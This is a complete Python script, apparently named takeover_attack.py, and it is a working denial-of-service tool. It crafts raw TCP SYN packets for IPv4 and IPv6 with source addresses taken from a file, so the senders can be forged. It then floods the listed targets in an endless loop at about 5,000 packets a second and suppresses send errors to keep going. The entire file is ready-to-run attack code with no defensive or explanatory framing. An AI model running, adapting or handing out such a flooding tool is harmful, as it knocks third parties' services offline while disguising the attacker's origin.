"""Connection attempts from many addresses at once, until it is ended.

usage: takeover_attack.py FILE; each line: source, destination, port.
"""

import ipaddress
import socket
import struct
import sys
import time

IPV6_HDRINCL = 36


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(source, target, port):
    """A TCP SYN with the headers of its family, ready to be sent."""
    src, dst = source.packed, target.packed
    tcp = struct.pack("!HHIIBBHHH", 40000, port, 1, 0, 5 << 4, 2, 1024, 0, 0)
    if source.version == 4:
        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
        head = struct.pack("!BBHHHBBH", 0x45, 0, 40, 1, 0, 64, 6, 0) + src + dst
    else:
        pseudo = src + dst + struct.pack("!II", len(tcp), 6)
        head = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + src + dst
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return head + tcp


def main():
    four = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    six = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    six.setsockopt(socket.IPPROTO_IPV6, IPV6_HDRINCL, 1)
    packets = []
    with open(sys.argv[1]) as lines:
        for line in lines:
            source, target, port = line.split()
            source = ipaddress.ip_address(source)
            packets.append((four if source.version == 4 else six,
                            syn(source, ipaddress.ip_address(target), int(port)),
                            (target, 0)))
    while True:
        # Ten at a time: about 5,000 packets a second, never long silent.
        for i in range(0, len(packets), 10):
            for link, packet, where in packets[i:i + 10]:
                try:
                    link.sendto(packet, where)
                except OSError:
                    pass   # a full queue: the next round comes
            time.sleep(0.002)


main()
